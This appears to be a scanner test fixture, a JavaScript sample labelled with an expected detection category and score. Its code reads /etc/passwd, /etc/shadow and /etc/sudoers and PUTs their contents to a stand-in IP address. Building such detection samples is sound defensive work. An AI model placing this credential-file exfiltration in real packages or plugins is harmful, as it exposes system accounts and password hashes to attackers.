// expect: category=filesystem min=85 context=plugin,package
// why: system account and shadow files are read and sent.
const fs = require('fs');

const files = ['/etc/passwd', '/etc/shadow', '/etc/sudoers'];
const dump = files.map((f) => {
  try {
    return f + '\n' + fs.readFileSync(f, 'utf8');
  } catch (e) {
    return f + ': ' + e.code;
  }
});

require('http').request({ host: '198.51.100.4', path: '/u', method: 'PUT' }).end(dump.join('\n'));
